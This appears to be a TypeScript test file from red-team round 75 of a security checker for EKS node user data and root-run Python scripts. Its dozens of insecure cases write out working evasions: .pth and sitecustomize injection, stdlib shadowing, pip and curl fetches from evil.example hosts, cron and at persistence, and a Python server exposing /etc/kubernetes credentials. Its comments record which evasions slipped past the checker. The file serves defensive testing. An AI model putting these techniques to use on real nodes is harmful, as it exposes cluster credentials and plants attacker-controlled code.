// Red-team round 75 (python, fresh eyes) on EKS NODE user data: root Python programs, neighbours of round 75's fixes.
// Probed (insecure, 47): library dirs (.pth import lines, sitecustomize/usercustomize, a script-dir package, ln -s and
// cp -r into /usr/lib64/python3.7, PYTHONPATH before a pip module); pyjwt->jwt (a later evil-index/wheel `jwt`, caps
// PyJWT from another index, a script-dir jwt.py, `pip download`); pathlib methods as values (unbound Path.write_text,
// getattr/__getattribute__ by literal, a method named across a line break, an unbound call); class bodies (staticmethod,
// type() dict, try:, `C.w = open`, SimpleNamespace, a parameter default); map(open) with map rebound (for target,
// walrus, parameter, builtins.map, with-as); crontab/at/batch (by path, execvp, sudo, -e with EDITOR, at TIME -f,
// batch stdin file, `crontab -` stdin, pty.spawn, posix_spawnp, split literals, cp via split); shlex.split/str.split
// (adjacent literals, shlex.split rebound, `def split` over the import); timeit (lambda body, CLI, alias setup, spread).
// Secure (20): python-named non-library dirs, PyJWT caps/extras via -m pip, str.replace as a value, Path read methods,
// class method-local alias, map(open) of a glob, `from builtins import open`, crontab -r/atq, .split(" "),
// `from shlex import split`, check=True, `from timeit import timeit`, number=N, timeit of a def, Timer(lambda),
// a parenthesised literal split, `from jwt import encode`.
// Misses: insecure 9 of 47 accepted, by class:
// - PIP-TRUST (2): pyjwt then a jwt WHEEL (PIP_PROJECT_MODULES re-adds jwt after retraction); PYTHONPATH dir holding a
//   curl'd jwt.py (pythonModuleFile needs readable text, falls through to pythonPipInstalled).
// - WRITE-METHOD-AS-VALUE (2): getattr(Path(p), "write_text"); `(Path(p)\n .write_text)` (receiverStart stops at
//   the line break, empty receiver skipped).
// - MAP-REBOUND (3): `for map in (starmap,)`, `(map := starmap)`, `with ... as map` defeat the map(open) exemption
//   (only `def map`/`map =` are seen).
// - SPLIT-REBOUND (2): `shlex.split = lambda ...` and `def split` over `from shlex import split`: pythonLiteralSplit
//   trusts the resolved name.
// Secure 9 of 20 refused: /var/cache/ops/python3/json.cache read as a library shadow (unanchored regex), str.replace
// as a value, `from timeit import timeit` (fromImported is dynamic before calls are read) -- real over-refusals; and
// fail-closed ones the lead may rule DECIDED: `from builtins import open`, .split(" "), parenthesised literal,
// number=N, timeit of a def, Timer(lambda).
// Held: .pth, sitecustomize, usercustomize, script-dir shadows, ln/cp -r into stdlib, evil-index jwt after pyjwt, caps
// PyJWT evil index, pip download, unbound Path.write_text (map and call), __getattribute__, every class-body form,
// parameter-default and builtins.map rebinding, every crontab/at/batch route tried, adjacent literals, timeit routes.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names: the server, the program, a write root reads, or code it does not read. */
const REFUSED =
    /serv|8001|6000|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|at\b|jwt|json/;

/** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
const CRON = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n";
/** The same as a shell command. */
const SERVE = "cd /etc/kubernetes && nohup python3 -m http.server 8001 >/dev/null 2>&1 &";

/** A module body that serves /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001 when imported. */
const SERVER = [
    "import functools, http.server",
    'h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/etc/kubernetes")',
    'http.server.ThreadingHTTPServer(("0.0.0.0", 8001), h).serve_forever()',
];

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
    ]);

/** A cron file root's cron would run, written by user data (content: the server line). */
const CRONFILE = heredocFile("/var/lib/ops/c", ["@reboot cd /etc/kubernetes && python3 -m http.server 8001"]);
/** An at job file (shell lines). */
const ATJOB = heredocFile("/var/lib/ops/job", [SERVE]);

const insecure: NodeCase[] = [
    // ===== library directories: files root's interpreter runs without an import by that name =====
    // Python docs "site" ("A path configuration file is a file whose name has the form name.pth ... Lines starting
    // with import (followed by space or tab) are executed"; site-packages is scanned at every startup).
    dev(
        "user data: writes /usr/local/lib/python3.9/site-packages/ops.pth ('import os; os.system(server)'); tune.py imports json",
        tune(
            "dev-py75r-pth-import-line-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/usr/local/lib/python3.9/site-packages/ops.pth", [`import os; os.system("${SERVE}")`]),
        ),
        REFUSED,
    ),
    // Python docs "site" ("After these path manipulations, an attempt is made to import a module named
    // sitecustomize ... typically created by a system administrator in the site-packages directory").
    dev(
        "user data: writes /usr/lib64/python3.7/site-packages/sitecustomize.py (a server); tune.py imports json",
        tune(
            "dev-py75r-sitecustomize-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/usr/lib64/python3.7/site-packages/sitecustomize.py", SERVER),
        ),
        REFUSED,
    ),
    // Python docs "The initialization of the sys.path module search path" (the script's directory comes first): a
    // package directory json/ beside tune.py shadows the stdlib json.
    dev(
        "user data: writes /opt/ops/json/__init__.py (a server) beside tune.py; tune.py imports json",
        tune(
            "dev-py75r-script-dir-package-shadow-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/opt/ops/json/__init__.py", SERVER),
        ),
        REFUSED,
    ),
    // ln(1): the link's name is the module root imports; the file it points to is a server.
    dev(
        "user data: writes /opt/srv/s.py (a server); ln -sf /opt/srv/s.py /usr/lib64/python3.7/json.py; tune.py imports json",
        tune(
            "dev-py75r-stdlib-shadow-symlink-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            [...heredocFile("/opt/srv/s.py", SERVER), "ln -sf /opt/srv/s.py /usr/lib64/python3.7/json.py"],
        ),
        REFUSED,
    ),
    // cp(1) -r SRC/. DEST copies the tree's contents: /opt/srv/json.py lands as /usr/lib64/python3.7/json.py.
    dev(
        "user data: writes /opt/srv/json.py (a server); cp -r /opt/srv/. /usr/lib64/python3.7/; tune.py imports json",
        tune(
            "dev-py75r-stdlib-shadow-cp-tree-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            [...heredocFile("/opt/srv/json.py", SERVER), "cp -r /opt/srv/. /usr/lib64/python3.7/"],
        ),
        REFUSED,
    ),
    // ===== pyjwt -> jwt table: a later untrusted install of a project that ships module jwt =====
    // pip docs "pip install" (--index-url "Base URL of the Python Package Index"): the evil index's `jwt` project
    // installs top-level package jwt/ over PyJWT's (pip does not check file ownership between distributions).
    dev(
        "user data: pip3 install pyjwt; pip3 install --index-url https://pypi.evil.example/simple jwt; tune.py imports jwt",
        tune(
            "dev-py75r-pyjwt-then-evil-jwt-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install pyjwt", "pip3 install --index-url https://pypi.evil.example/simple jwt"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 75): pip docs "pip install" (a wheel file path installs that file; PEP 427: the file name's first part is the
    // project, here `jwt`, whose top-level package is jwt/, written over PyJWT's): root imports the curl'd jwt package
    // (any code, e.g. a server of /etc/kubernetes). scriptPipModules (userDataReaders/pythonCode.ts) retracts the wheel's
    // names but then re-adds `jwt` from PIP_PROJECT_MODULES because `pyjwt` stays in `out` (the table is applied AFTER
    // retraction, and retraction is by project name, not by module): got []. Fix: apply PIP_PROJECT_MODULES before
    // retraction and retract by MODULE too (any untrusted install naming or possibly shipping module M removes M, whatever
    // project mapped to it); a wheel's module is unknown (retract all).
    dev(
        "user data: pip3 install pyjwt; pip3 install /var/lib/ops/jwt-1.0-py3-none-any.whl (curl'd); tune.py imports jwt",
        tune(
            "dev-py75r-pyjwt-then-jwt-wheel-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            [
                "pip3 install pyjwt",
                "curl -fsSLo /var/lib/ops/jwt-1.0-py3-none-any.whl https://evil.example/jwt.whl",
                "pip3 install --force-reinstall /var/lib/ops/jwt-1.0-py3-none-any.whl",
            ],
        ),
        REFUSED,
    ),
    dev(
        "user data: pip3 install --index-url https://pypi.evil.example/simple PyJWT (capitalised); tune.py imports jwt",
        tune(
            "dev-py75r-pyjwt-caps-evil-index-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install --index-url https://pypi.evil.example/simple PyJWT"],
        ),
        REFUSED,
    ),
    // ===== pathlib write methods as values =====
    // Python reference "Method objects" (an unbound function taken from the class, called with the instance first).
    dev(
        "tune.py: list(map(Path.write_text, [Path('/etc/cron.d/ops')], [cron line])) (unbound method as a value)",
        tune("dev-py75r-unbound-path-write-text-nodes", [
            "from pathlib import Path",
            `list(map(Path.write_text, [Path("/etc/cron.d/ops")], ["${CRON}"]))`,
        ]),
        REFUSED,
    ),
    // Python docs "getattr(object, name)": getattr(x, 'foobar') is x.foobar.
    // Was a MISS (fixed in round 75): Python docs "getattr" ("getattr(x, 'foobar') is equivalent to x.foobar"): Path('/etc/cron.d/ops').write_text
    // is called with a cron line -> root's cron serves /etc/kubernetes. pythonWriteRefusal (pythonCode.ts) matches
    // `.write_text` tokens and PYTHON_WRITE_CALLS callees; a getattr with a literal attribute name is neither: got [].
    // Fix: read getattr(X, "LIT") as X.LIT everywhere (pythonResolve), or refuse getattr/attrgetter whose literal names a
    // write method (write_text, write_bytes, open, touch, rename, replace, symlink_to, ...).
    dev(
        "tune.py: getattr(Path('/etc/cron.d/ops'), 'write_text')(cron line)",
        tune("dev-py75r-getattr-write-text-nodes", [
            "from pathlib import Path",
            `getattr(Path("/etc/cron.d/ops"), "write_text")("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 75): Python reference "Implicit line joining" (expressions in parentheses may span lines): w is the bound
    // Path('/etc/cron.d/ops').write_text and w(cron line) writes root's cron. pythonWriteRefusal's round-75 bound-method
    // scan (pythonCode.ts) finds `.write_text` but its receiver (receiverStart) does not cross the line break, so the
    // receiver is "" and the use is skipped (`if (receiver === "") continue`): got []. Fix: an empty or unreadable receiver
    // is not "no receiver": refuse (fail closed), or join bracketed continuation lines before scanning.
    dev(
        "tune.py: w = (Path('/etc/cron.d/ops')\\n .write_text); w(cron line) (a method named across a line break)",
        tune("dev-py75r-write-text-linebreak-nodes", [
            "from pathlib import Path",
            'w = (Path("/etc/cron.d/ops")',
            "     .write_text)",
            `w("${CRON}")`,
        ]),
        REFUSED,
    ),
    // ===== class bodies =====
    // Python docs "staticmethod": "a static method does not receive an implicit first argument"; C.w is open.
    dev(
        "tune.py: class C: w = staticmethod(open); C.w('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py75r-class-staticmethod-open-nodes", [
            "class C:",
            "    w = staticmethod(open)",
            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python docs "type(name, bases, dict)": the dict becomes the class's attributes.
    dev(
        "tune.py: C = type('C', (), {'w': open}); C.w('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py75r-type-dict-open-nodes", [
            'C = type("C", (), {"w": open})',
            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: class C:\\n try: w = open\\n except Exception: pass; C.w('/etc/cron.d/ops', 'w')",
        tune("dev-py75r-class-try-open-nodes", [
            "class C:",
            "    try:",
            "        w = open",
            "    except Exception:",
            "        pass",
            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    // ===== map(open, ...) where map is not the builtin map =====
    // Python docs "itertools.starmap": "used instead of map() when argument parameters are already grouped in tuples";
    // Python reference "The for statement" binds the target name; "Assignment expressions" binds NAME.
    // Was a MISS (fixed in round 75): Python reference "The for statement" (the target list is assigned each item) and Python docs
    // "itertools.starmap" (calls open(*item)): map is starmap, open('/etc/cron.d/ops', 'w') writes root's cron. The
    // round-75 map(open) exemption in pythonWriteCallValues (pythonCode.ts) treats `map` as the builtin unless the file
    // has `def map` or `map =` (or imports it); a for target is neither: got []. Fix: treat map as rebound when ANY binding
    // of the name exists (for/with/except targets, :=, parameters, lambda parameters, comprehension targets, global/
    // nonlocal, builtins.map/__builtins__ attribute or setattr), e.g. reuse pythonNames' binding reader; otherwise refuse.
    dev(
        "tune.py: for map in (itertools.starmap,): list(map(open, [('/etc/cron.d/ops', 'w')]))",
        tune("dev-py75r-for-bound-map-open-nodes", [
            "import itertools",
            "for map in (itertools.starmap,):",
            `    [f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 75): Python reference "Assignment expressions" (`(NAME := expr)` binds NAME in the enclosing scope): map is
    // itertools.starmap and open is called with (path, 'w'). Same place and fix as the for-target case: the rebinding
    // regex `map[ \t]*=(?!=)` does not match `map :=`: got [].
    dev(
        "tune.py: (map := itertools.starmap); map(open, [('/etc/cron.d/ops', 'w')])",
        tune("dev-py75r-walrus-map-open-nodes", [
            "import itertools",
            "(map := itertools.starmap)",
            `[f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: def f(map=itertools.starmap): map(open, [('/etc/cron.d/ops', 'w')]) (a parameter default)",
        tune("dev-py75r-param-map-open-nodes", [
            "import itertools",
            "def f(map=itertools.starmap):",
            `    [g.write("${CRON}") for g in map(open, [("/etc/cron.d/ops", "w")])]`,
            "f()",
        ]),
        REFUSED,
    ),
    // Python docs "builtins": "this module provides direct access to all built-in identifiers"; assigning
    // builtins.map replaces the builtin every bare `map` resolves to.
    dev(
        "tune.py: builtins.map = itertools.starmap; map(open, [('/etc/cron.d/ops', 'w')])",
        tune("dev-py75r-builtins-map-open-nodes", [
            "import builtins, itertools",
            "builtins.map = itertools.starmap",
            `[f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 75): Python reference "The with statement" (`as` target is assigned the context manager's __enter__ result;
    // contextlib.nullcontext returns its argument): map is starmap; open(path, 'w') writes root's cron. Same place and
    // fix as the for-target case: got [].
    dev(
        "tune.py: with contextlib.nullcontext(itertools.starmap) as map: map(open, [('/etc/cron.d/ops', 'w')])",
        tune("dev-py75r-with-map-open-nodes", [
            "import contextlib, itertools",
            "with contextlib.nullcontext(itertools.starmap) as map:",
            `    [f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
        ]),
        REFUSED,
    ),
    // ===== crontab/at/batch and literal splits =====
    dev(
        "tune.py: subprocess.run(['/usr/bin/crontab', '/var/lib/ops/c']) (crontab by its path)",
        tune(
            "dev-py75r-crontab-path-nodes",
            ["import subprocess", 'subprocess.run(["/usr/bin/crontab", "/var/lib/ops/c"])'],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: os.execvp('crontab', ['crontab', '/var/lib/ops/c'])",
        tune(
            "dev-py75r-crontab-execvp-nodes",
            ["import os", 'os.execvp("crontab", ["crontab", "/var/lib/ops/c"])'],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(['sudo', 'crontab', '/var/lib/ops/c'])",
        tune(
            "dev-py75r-crontab-sudo-nodes",
            ["import subprocess", 'subprocess.run(["sudo", "crontab", "/var/lib/ops/c"])'],
            CRONFILE,
        ),
        REFUSED,
    ),
    // crontab(1) (cronie): "-e  Edits the current crontab using the editor specified by the VISUAL or EDITOR
    // environment variables"; the editor is run with the temp file's name.
    dev(
        "tune.py: subprocess.run(['crontab', '-e'], env={'EDITOR': 'cp /var/lib/ops/c'})",
        tune(
            "dev-py75r-crontab-editor-nodes",
            [
                "import subprocess",
                'subprocess.run(["crontab", "-e"], env={"EDITOR": "cp /var/lib/ops/c", "PATH": "/usr/bin"})',
            ],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(['at', 'now', '-f', '/var/lib/ops/job']) (option after the time)",
        tune(
            "dev-py75r-at-file-late-nodes",
            ["import subprocess", 'subprocess.run(["at", "now", "-f", "/var/lib/ops/job"])'],
            ATJOB,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(['batch'], stdin=open('/var/lib/ops/job'))",
        tune(
            "dev-py75r-batch-stdin-file-nodes",
            ["import subprocess", 'subprocess.run(["batch"], stdin=open("/var/lib/ops/job"))'],
            ATJOB,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run('crontab /var/lib/ops/c'.split())",
        tune(
            "dev-py75r-crontab-str-split-nodes",
            ["import subprocess", 'subprocess.run("crontab /var/lib/ops/c".split())'],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(shlex.split('at -f /var/lib/ops/job now'))",
        tune(
            "dev-py75r-at-shlex-split-nodes",
            ["import shlex, subprocess", 'subprocess.run(shlex.split("at -f /var/lib/ops/job now"))'],
            ATJOB,
        ),
        REFUSED,
    ),
    // Python reference "String literal concatenation": adjacent literals are one literal at compile time, before the
    // method call: the argv is python3 -m http.server 8001 -d /etc/kubernetes.
    dev(
        "tune.py: subprocess.Popen('python3 -m http.server 8001 ' '-d /etc/kubernetes'.split()) (adjacent literals)",
        tune("dev-py75r-adjacent-literal-split-nodes", [
            "import subprocess",
            'subprocess.Popen("python3 -m http.server 8001 " "-d /etc/kubernetes".split())',
        ]),
        REFUSED,
    ),
    // Python reference "Assignment statements" (an attribute target rebinds the module's attribute): shlex.split is
    // now a lambda returning the server argv.
    // Was a MISS (fixed in round 75): Python reference "Assignment statements" (an attribute reference target assigns the module's attribute):
    // shlex.split now returns the server argv, so root runs `python3 -m http.server 8001 -d /etc/kubernetes`. The round-75
    // literal split (pythonLiteralSplit in pythonCommandRuns, pythonCode.ts) trusts resolved(...) === "shlex.split" and
    // reads the argv as `sysctl -w vm.swappiness=10`; the `rebound` check only covers the keyword values: got []. Fix:
    // read the literal split only when neither the callee name nor its module attribute is rebound in the file (no
    // `shlex.split =`, `setattr(shlex, ...)`, `def split`/`split =` when imported bare), else the argv is unknown.
    dev(
        "tune.py: shlex.split = lambda s: [server argv]; subprocess.run(shlex.split('sysctl -w vm.swappiness=10'))",
        tune("dev-py75r-shlex-split-rebound-nodes", [
            "import shlex, subprocess",
            'shlex.split = lambda s: ["python3", "-m", "http.server", "8001", "-d", "/etc/kubernetes"]',
            'subprocess.run(shlex.split("sysctl -w vm.swappiness=10"))',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 75): Python reference "Function definitions" (a def binds the name in the current scope, replacing the
    // imported one): split() is the file's function returning the server argv. pythonLiteralSplit (pythonCode.ts) resolves
    // `split` through the import only: got []. Same fix as the shlex.split = lambda case (apply `rebound` to the callee).
    dev(
        "tune.py: from shlex import split; def split(s): return [server argv]; subprocess.run(split('sysctl ...'))",
        tune("dev-py75r-split-def-rebound-nodes", [
            "import subprocess",
            "from shlex import split",
            "def split(s):",
            '    return ["python3", "-m", "http.server", "8001", "-d", "/etc/kubernetes"]',
            'subprocess.run(split("sysctl -w vm.swappiness=10"))',
        ]),
        REFUSED,
    ),
    // ===== timeit =====
    dev(
        "tune.py: timeit.timeit(lambda: os.system(server), number=1) (the lambda's body is the file's code)",
        tune("dev-py75r-timeit-lambda-system-nodes", [
            "import os, timeit",
            `timeit.timeit(lambda: os.system("${SERVE}"), number=1)`,
        ]),
        REFUSED,
    ),
    // Python docs "timeit" (Command-Line Interface: "python -m timeit [-s S] [statement ...]"; statements are code).
    dev(
        "user data: python3 -m timeit -n 1 'import os; os.system(server)'",
        devNodeScript("dev-py75r-timeit-cli-nodes", [`python3 -m timeit -n 1 'import os; os.system("${SERVE}")'`]),
        REFUSED,
    ),
    dev(
        "tune.py: t = timeit.timeit; t(lambda: 0, setup='import os; os.system(server)', number=1)",
        tune("dev-py75r-timeit-alias-setup-nodes", [
            "import timeit",
            "t = timeit.timeit",
            `t(lambda: 0, setup='import os; os.system("${SERVE}")', number=1)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: timeit.timeit(lambda: 0, number=1, **{'setup': code}) (a spread keyword)",
        tune("dev-py75r-timeit-spread-nodes", [
            "import timeit",
            `timeit.timeit(lambda: 0, number=1, **{"setup": 'import os; os.system("${SERVE}")'})`,
        ]),
        REFUSED,
    ),
    // ===== batch 2 (insecure) =====
    // Python docs "site" ("After this, an attempt is made to import a module named usercustomize ... in the user
    // site-packages directory", ENABLE_USER_SITE true for root without -s): root's ~/.local site-packages.
    dev(
        "user data: writes /root/.local/lib/python3.9/site-packages/usercustomize.py (a server); tune.py imports json",
        tune(
            "dev-py75r-usercustomize-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/root/.local/lib/python3.9/site-packages/usercustomize.py", SERVER),
        ),
        REFUSED,
    ),
    // Python docs "The initialization of the sys.path module search path" (the script's directory first): a jwt.py
    // beside tune.py shadows PyJWT's jwt package.
    dev(
        "user data: pip3 install pyjwt; writes /opt/ops/jwt.py (a server) beside tune.py; tune.py imports jwt",
        tune(
            "dev-py75r-pyjwt-script-dir-shadow-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install pyjwt", ...heredocFile("/opt/ops/jwt.py", SERVER)],
        ),
        REFUSED,
    ),
    // Python docs "PYTHONPATH" ("Augment the default search path for module files ... inserted in front of ...
    // site-packages"): the curl'd /var/lib/ops/jwt.py is imported before PyJWT.
    // Was a MISS (fixed in round 75): Python docs "PYTHONPATH" ("Augment the default search path for module files ... inserted in front of ...
    // site-packages") and "The initialization of the sys.path module search path": root's `import jwt` loads the curl'd
    // /var/lib/ops/jwt.py (any code), not PyJWT. pythonUnreadCode (pythonCode.ts) asks pythonModuleFile over
    // program.roots (which do hold /var/lib/ops) for a file it can READ; a downloaded file has no text, so it falls
    // through to pythonPipInstalled(jwt) and is trusted: got []. Fix: before trusting a pip module, refuse when any
    // earlier import root (script dir, PYTHONPATH entries, -I/-E aside) may hold M.py/M/ that user data wrote or changed
    // with unknown content (view.written/changed under that root), like pythonLibraryWritten does for library dirs.
    dev(
        "user data: pip3 install pyjwt; curl -o /var/lib/ops/jwt.py; PYTHONPATH=/var/lib/ops python3 tune.py (imports jwt)",
        devNodeScript("dev-py75r-pyjwt-pythonpath-nodes", [
            "mkdir -p /var/lib/ops",
            "pip3 install pyjwt",
            "curl -fsSLo /var/lib/ops/jwt.py https://evil.example/jwt.py",
            ...heredocFile("/opt/ops/tune.py", ["import jwt", 'print(jwt.encode({"a": 1}, "k"))']),
            "PYTHONPATH=/var/lib/ops python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // pip docs "pip download" ("Download packages ... pip download does the same resolution and downloading as pip
    // install, but instead of installing"): nothing installs jwt; whatever module jwt root finds is not PyJWT's.
    dev(
        "user data: pip3 download pyjwt -d /var/cache/ops (not an install); tune.py imports jwt",
        tune(
            "dev-py75r-pyjwt-download-only-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 download pyjwt -d /var/cache/ops"],
        ),
        REFUSED,
    ),
    // Python docs "object.__getattribute__(self, name)": the attribute lookup getattr performs.
    dev(
        "tune.py: Path('/etc/cron.d/ops').__getattribute__('write_text')(cron line)",
        tune("dev-py75r-getattribute-write-text-nodes", [
            "from pathlib import Path",
            `Path("/etc/cron.d/ops").__getattribute__("write_text")("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python reference "Method objects" (C.f(x, ...) is f with x first).
    dev(
        "tune.py: Path.write_text(Path('/etc/cron.d/ops'), cron line) (an unbound call)",
        tune("dev-py75r-unbound-write-text-call-nodes", [
            "from pathlib import Path",
            `Path.write_text(Path("/etc/cron.d/ops"), "${CRON}")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: class C: pass; C.w = open; C.w('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py75r-class-attr-assign-open-nodes", [
            "class C:",
            "    pass",
            "C.w = open",
            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: ns = types.SimpleNamespace(w=open); ns.w('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py75r-namespace-open-nodes", [
            "import types",
            "ns = types.SimpleNamespace(w=open)",
            `ns.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: def f(w=open): w('/etc/cron.d/ops', 'w').write(cron line) (a parameter default)",
        tune("dev-py75r-param-default-open-nodes", [
            "def f(w=open):",
            `    w("/etc/cron.d/ops", "w").write("${CRON}")`,
            "f()",
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(['crontab', '-'], stdin=open('/var/lib/ops/c'))",
        tune(
            "dev-py75r-crontab-stdin-file-nodes",
            ["import subprocess", 'subprocess.run(["crontab", "-"], stdin=open("/var/lib/ops/c"))'],
            CRONFILE,
        ),
        REFUSED,
    ),
    // Python docs "pty.spawn(argv)" ("Spawn a process, and connect its controlling terminal with the current
    // process's standard io"); "os.posix_spawnp" (PATH search).
    dev(
        "tune.py: pty.spawn(['crontab', '/var/lib/ops/c'])",
        tune("dev-py75r-crontab-pty-nodes", ["import pty", 'pty.spawn(["crontab", "/var/lib/ops/c"])'], CRONFILE),
        REFUSED,
    ),
    dev(
        "tune.py: os.posix_spawnp('crontab', ['crontab', '/var/lib/ops/c'], os.environ)",
        tune(
            "dev-py75r-crontab-posix-spawnp-nodes",
            ["import os", 'os.posix_spawnp("crontab", ["crontab", "/var/lib/ops/c"], os.environ)'],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run('cp /var/lib/ops/c /etc/cron.d/ops'.split())",
        tune(
            "dev-py75r-cp-cron-str-split-nodes",
            ["import subprocess", 'subprocess.run("cp /var/lib/ops/c /etc/cron.d/ops".split())'],
            CRONFILE,
        ),
        REFUSED,
    ),
    // ===== round 75 fixer: insecure neighbours of the fixes =====
    // Debian's library directory (Python docs "The initialization of the sys.path module search path"; Debian Python
    // Policy 1.5 "dist-packages"): /usr/lib/python3/dist-packages is on root's sys.path.
    dev(
        "user data: writes /usr/lib/python3/dist-packages/json.py (a server); tune.py imports json",
        tune(
            "dev-py75f-dist-packages-json-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/usr/lib/python3/dist-packages/json.py", SERVER),
        ),
        REFUSED,
    ),
    // pip docs "pip install" (an sdist by URL installs whatever top-level modules it holds, jwt/ included).
    dev(
        "user data: pip3 install pyjwt; pip3 install https://evil.example/tools-1.0.tar.gz; tune.py imports jwt",
        tune(
            "dev-py75f-pyjwt-then-url-sdist-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install pyjwt", "pip3 install https://evil.example/tools-1.0.tar.gz"],
        ),
        REFUSED,
    ),
    dev(
        "user data: pip3 install pyjwt; pip3 install /var/lib/ops/src (a directory); tune.py imports jwt",
        tune(
            "dev-py75f-pyjwt-then-path-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install pyjwt", "pip3 install /var/lib/ops/src"],
        ),
        REFUSED,
    ),
    // The script's directory comes first (Python docs "The initialization of the sys.path module search path"): a
    // curl'd json.py beside tune.py is the json root imports.
    dev(
        "user data: curl -o /opt/ops/json.py (beside tune.py); tune.py imports json",
        tune(
            "dev-py75f-script-dir-downloaded-json-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            ["mkdir -p /opt/ops", "curl -fsSLo /opt/ops/json.py https://evil.example/json.py"],
        ),
        REFUSED,
    ),
    dev(
        "tune.py: name = sys.argv[0][:0] + 'write_text'; getattr(Path('/etc/cron.d/ops'), name)(cron line)",
        tune("dev-py75f-getattr-computed-name-nodes", [
            "import sys",
            "from pathlib import Path",
            'name = sys.argv[0][:0] + "write_text"',
            `getattr(Path("/etc/cron.d/ops"), name)("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python docs "operator.methodcaller(name, /, *args, **kwargs)": "f = methodcaller('name', 'foo', bar=1), the
    // call f(b) returns b.name('foo', bar=1)".
    dev(
        "tune.py: operator.methodcaller('write_text', cron line)(Path('/etc/cron.d/ops'))",
        tune("dev-py75f-methodcaller-write-text-nodes", [
            "import operator",
            "from pathlib import Path",
            `operator.methodcaller("write_text", "${CRON}")(Path("/etc/cron.d/ops"))`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: w = Path('/etc/cron.d/ops'); f = (w\\n .write_text); f(cron line) (a name's method across a line break)",
        tune("dev-py75f-write-text-linebreak-call-nodes", [
            "from pathlib import Path",
            'w = Path("/etc/cron.d/ops")',
            "f = (w",
            "     .write_text)",
            `f("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python reference "Naming and binding": a lambda's parameter and a comprehension's target bind map too.
    dev(
        "tune.py: (lambda map: [f.write(cron) for f in map(open, [('/etc/cron.d/ops', 'w')])])(itertools.starmap)",
        tune("dev-py75f-lambda-param-map-open-nodes", [
            "import itertools",
            `(lambda map: [f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])])(itertools.starmap)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: [f.write(cron) for map in [itertools.starmap] for f in map(open, [('/etc/cron.d/ops', 'w')])]",
        tune("dev-py75f-comprehension-map-open-nodes", [
            "import itertools",
            `[f.write("${CRON}") for map in [itertools.starmap] for f in map(open, [("/etc/cron.d/ops", "w")])]`,
        ]),
        REFUSED,
    ),
